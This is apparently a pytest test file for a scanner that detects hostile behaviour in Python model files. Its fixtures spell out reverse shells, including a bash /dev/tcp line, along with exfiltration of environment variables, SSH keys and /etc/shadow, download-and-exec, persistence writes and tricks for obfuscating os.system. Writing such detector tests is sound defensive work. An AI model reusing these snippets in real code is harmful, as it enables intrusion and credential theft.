"""Python source: what runs on import, on load and on installation, however it is spelled; ordinary model code is quiet."""

import base64
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.assets.budget import Budget, Limits
from hauberk.assets.content import BytesContent
from hauberk.assets.errors import ReadError
from hauberk.assets.source.python_source import MAX_SOURCE, read
from hauberk.core import Asset, Fact, Gap, GapReason


def items(source: str | bytes) -> list[Fact | Gap | Asset]:
    data = source.encode() if isinstance(source, str) else source
    return list(read(Asset(uri="modeling_x.py", name="modeling_x.py", content=BytesContent(data)), Budget(Limits(seconds=20))))


def facts(source: str | bytes) -> list[Fact]:
    return [item for item in items(source) if isinstance(item, Fact)]


def calls(source: str, does: str = "command") -> list[tuple[str, str, str]]:
    found = [f for f in facts(source) if f.check == "code.call" and f.attrs["does"] == does]
    return [(f"{f.attrs['module']}.{f.attrs['name']}", str(f.attrs["phase"]), str(f.attrs["way"])) for f in found]


def checks(source: str) -> set[str]:
    return {fact.check for fact in facts(source)}


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('x')",
        "import os as o\no.system('x')",
        "from os import system as s\ns('x')",
        "from os import *\nsystem('x')",
        "import posix\nposix.system('x')",
        "import os\nf = os.system\ng = f\ng('x')",
        "import os\nclass A:\n    y = os.system('x')",
        "import os\ndef f(a=os.system('x')): pass",
        "import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass",
        "import os\ndef f(): os.system('x')\ndef g(): f()\ng()",
        "import os\ndef f(): return os.system\nf()('x')",
        "import os\nt = {'a': os.system}\nt['a']('x')",
        "import os\n[os.system][0]('x')",
        "import os\nclass C: pass\nC.f = os.system\nC.f('x')",
        "import os\nlist(map(os.system, ['x']))",
        "import os, functools\nfunctools.partial(os.system, 'x')()",
        "import os, threading\ndef f(): os.system('x')\nthreading.Thread(target=f).start()",
        "import os, atexit\n@atexit.register\ndef f(): os.system('x')",
        "import os\n(lambda: os.system('x'))()",
        "import os\nif True:\n    try:\n        os.system('x')\n    except Exception:\n        pass",
        "import os\nwith open('x') as f:\n    os.system('x')",
        "import torch\ntorch.os.system('x')",
        "exec(\"import os; os.system('x')\")",
        "eval(\"__import__('os').system('x')\")",
    ],
)
def test_a_command_at_import_is_seen_however_it_is_spelled(source: str) -> None:
    assert ("os.system", "import") in {(name, phase) for name, phase, _ in calls(source)}


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('x')", "os.system"),
        ("import os\ngetattr(os, 'metsys'[::-1])('x')", "os.system"),
        ("import os\ngetattr(os, ''.join(['po', 'pen']))('x')", "os.popen"),
        ("import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('x')", "os.system"),
        ("import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')", "os.system"),
        ("import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')", "os.system"),
        ("import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')", "os.system"),
        ("import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('x')", "os.system"),
        ("import os\ngetattr(os, 'XsystemX'.replace('X', ''))('x')", "os.system"),
        ("import importlib\nimportlib.import_module('sub' + 'process').call('x')", "subprocess.call"),
        ("import os, operator\noperator.methodcaller('system', 'x')(os)", "os.system"),
        ("a = 'sys'\na += 'tem'\nimport os\ngetattr(os, a)('x')", "os.system"),
    ],
)
def test_a_computed_name_is_worked_out(source: str, name: str) -> None:
    assert (name, "import", "computed") in calls(source)


@pytest.mark.parametrize(
    "source",
    [
        "__import__('os').system('x')",
        "import os\ngetattr(os, 'system')('x')",
        "import os\nvars(os)['system']('x')",
        "import os\nos.__dict__['system']('x')",
        "import sys\nsys.modules['os'].system('x')",
    ],
)
def test_a_looked_up_name_is_told_apart(source: str) -> None:
    assert ("os.system", "import", "looked-up") in calls(source)


@pytest.mark.parametrize(
    ("source", "phase"),
    [
        ("import os\nclass M:\n    def __init__(self): os.system('x')", "load"),
        ("import os\nclass M:\n    def forward(self, x): self.go()\n    def go(self): os.system('x')", "load"),
        ("import os\nfrom torch import nn\nclass M(nn.Module):\n    def encode(self): os.system('x')", "load"),
        ("import os\nclass M:\n    def __init__(self): pass\n    def go(self): os.system('x')", "function"),
        ("import os\nif __name__ == '__main__':\n    os.system('x')", "main"),
        ("import os, sys\nif sys.platform and __name__ == '__main__':\n    os.system('x')", "main"),
        ("import os\ndef f(): os.system('x')\nif __name__ == '__main__':\n    f()", "main"),
        (
            "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self): os.system('x')",
            "install",
        ),
        ("import os\nclass M:\n    def __init__(self): os.system('x')\nm = M()", "import"),
    ],
)
def test_when_a_command_runs(source: str, phase: str) -> None:
    assert [p for _, p, _ in calls(source)] == [phase]


@pytest.mark.parametrize(
    ("source", "check"),
    [
        ("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))", "code.decode-exec"),
        ("def d(s):\n    import base64\n    return base64.b64decode(s)\nexec(d('eA=='))", "code.decode-exec"),
        ("s = ''\nfor c in [105, 109]:\n    s += chr(c)\nexec(s)", "code.decode-exec"),
        ("import marshal, base64\nexec(marshal.loads(base64.b64decode('eA==')))", "code.decode-exec"),
        ("import requests\nexec(requests.get('http://192.0.2.1').text)", "code.download-exec"),
        ("import requests\nc = compile(requests.get('u').text, 'x', 'exec')\nexec(c)", "code.download-exec"),
        ("import socket, os\ns = socket.socket()\nos.popen(s.recv(9).decode())", "code.download-exec"),
        ("import requests, os\nopen('/tmp/p', 'wb').write(requests.get('u').content)\nos.system('/tmp/p')", "code.download-exec"),
        ("from huggingface_hub import hf_hub_download as d\nexec(open(d('a', 'b')).read())", "code.download-exec"),
        (
            "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
            "code.reverse-shell",
        ),
        ("import os, requests\nrequests.post('u', json=dict(os.environ))", "code.exfiltration"),
        ("import requests\nrequests.post('u', data=open('/root/.ssh/id_rsa').read())", "code.exfiltration"),
        ("import smtplib\nsmtplib.SMTP('h').sendmail('a', 'b', open('/etc/shadow').read())", "code.exfiltration"),
        ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')", "code.persistence"),
        ("from pathlib import Path\nPath.home().joinpath('.ssh', 'authorized_keys').open('a')", "code.persistence"),
        ("import shutil\nshutil.copy('e', '/etc/systemd/system/e.service')", "code.persistence"),
        ("import os\nclass M:\n    def __reduce__(self): return os.system, ('x',)", "code.reduce"),
        ("import subprocess\nsubprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'])", "code.hostile-command"),
        ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 1, 1)", "code.shellcode"),
        ("().__class__.__base__.__subclasses__()", "code.object-graph"),
        ("# coding: utf_7\nx = 1", "code.encoding"),
        ("from zoo import hook\nhook()", "code.foreign-call"),
    ],
)
def test_calls_that_belong_together(source: str, check: str) -> None:
    assert check in checks(source)


def test_code_in_code_is_followed() -> None:
    inner = "import os\nos.system('x')"
    packed = base64.b64encode(zlib.compress(inner.encode())).decode()
    source = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))"
    found = [f for f in facts(source) if f.attrs.get("does") == "command"]
    assert [(f.where, f.quote, f.attrs["phase"]) for f in found] == [("line 2, line 2", "os.system('x')", "import")]


def test_a_fact_says_where() -> None:
    fact = facts("import os\n\nx = 1; os.system('é')\n")[0]
    assert (fact.where, fact.offset, fact.quote) == ("line 3", 18, "x = 1; os.system('é')")


ORDINARY = '''"""A model."""
import json, math, os, warnings
from typing import Optional
import torch
from torch import nn
from transformers.utils import logging
from transformers.modeling_utils import PreTrainedModel
from .configuration_x import XConfig
logger = logging.get_logger(__name__)
warnings.filterwarnings("ignore")
VOCAB = {"vocab_file": "vocab.json"}
class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config: XConfig):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(config.n)])
        self.act = getattr(nn.functional, config.act)
        self.post_init()
    def forward(self, input_ids: Optional[torch.Tensor] = None):
        for layer in self.layers:
            input_ids = layer(input_ids) * math.sqrt(2)
        self.eval()
        return input_ids
    @staticmethod
    def load_vocab(path):
        with open(os.path.join(path, "vocab.json"), encoding="utf-8") as handle:
            return json.load(handle)
    def save_vocabulary(self, folder):
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "vocab.txt"), "w") as handle:
            handle.write("x")
XConfig.register_for_auto_class()
'''


def test_ordinary_model_code_is_quiet() -> None:
    assert items(ORDINARY) == []


def test_a_version_from_git_is_harmless() -> None:
    (fact,) = facts("import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags'])\n")
    assert fact.attrs["harmless"] is True
    (fact,) = facts("import os\nos.system('git describe')\n")
    assert fact.attrs["harmless"] is False  # its answer is thrown away


def test_a_git_command_that_runs_another_is_not_harmless() -> None:
    (fact,) = facts("import subprocess\nv = subprocess.check_output('git log; sh x', shell=True)\n")
    assert fact.attrs["harmless"] is False


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("print 'hello'\n", GapReason.UNSUPPORTED),
        ("def f(:\n", GapReason.UNSUPPORTED),
        ("import subprocess\ndef f(:\n", GapReason.MALFORMED),
        ("x = 1\n" + " " * MAX_SOURCE, GapReason.TOO_LARGE),
        ("(" * 5000 + ")" * 5000, GapReason.UNSUPPORTED),
        ("-" * 200_000 + "1", GapReason.UNSUPPORTED),
    ],
)
def test_what_cannot_be_followed_is_a_gap(source: str, reason: GapReason) -> None:
    assert [item.reason for item in items(source) if isinstance(item, Gap)] == [reason]


def test_python_2_with_a_payload_is_hostile_text() -> None:
    assert checks("print 'x'\nexec 'aW1wb3J0IG9z'.decode('base64')\n") == {"code.hostile-text"}


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "+".join(["'a'"] * 50_000),
        "x = a" + ".b()" * 150,
        "x = ''" + ".replace('a', 'b')" * 150,
        "x = 'a' * 1000000\n" + "x = x + x\n" * 500,
        "x = ['a'.join([str(y) for y in 'a' * 4096]) for z in 'a' * 4096]\n",
        "x = [[[a for a in 'x' * 4000] for b in 'x' * 4000] for c in 'x' * 4000]\n",
        "".join(f"def f{n}(): return f{n + 1}()\n" for n in range(3000)) + "f0()\n",
        "x = '%999999999d' % 1\ny = '{:999999999}'.format(1)\nz = 9 ** 9 ** 9\nw = 1 << 99999999\n",
        "import zlib\nx = zlib.decompress(" + repr(zlib.compress(b"a" * 20_000_000)) + ")\n",
        "exec(" * 60 + "'x'" + ")" * 60,
        "import os\n" + "os.system('x')\n" * 20_000,
    ],
    ids=range(11),
)
def test_hostile_sources_stay_within_bounds(source: str) -> None:
    start = time.process_time()
    items(source)
    assert time.process_time() - start < 6


def test_a_deep_chain_is_a_gap_and_the_rest_is_read() -> None:
    found = items("x = a" + "[0]" * 900 + "\nimport os\nos.system('x')\n")
    assert [f.attrs["name"] for f in found if isinstance(f, Fact)] == ["system"]


PIECES = [
    "import os\n",
    "os.system('x')\n",
    "exec(",
    ")",
    "getattr(os, 'a' + 'b')",
    "class A:\n  ",
    "def f(x):\n  ",
    "lambda: ",
    "\n",
    "f'{x}'",
    "[i for i in 'ab']",
    "x = ",
    "{'a': 1}",
    "self.x = 1",
    "yield ",
    "with a as b:\n  ",
    "é",
    "\\",
    '"""',
    "*",
    "[::-1]",
    "%",
    "b'a'",
    "().__class__",
    "match x:\n  case 1:\n    ",
    "await ",
    "global x\n",
    "del x\n",
    "if __name__ == '__main__':\n ",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_any_program_gives_facts_and_gaps_only(source: str) -> None:
    try:
        assert all(isinstance(item, Fact | Gap | Asset) for item in items(source))
    except ReadError as error:
        assert error.note  # noqa: PT017


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_give_facts_and_gaps_only(source: bytes) -> None:
    assert all(isinstance(item, Fact | Gap | Asset) for item in items(source))
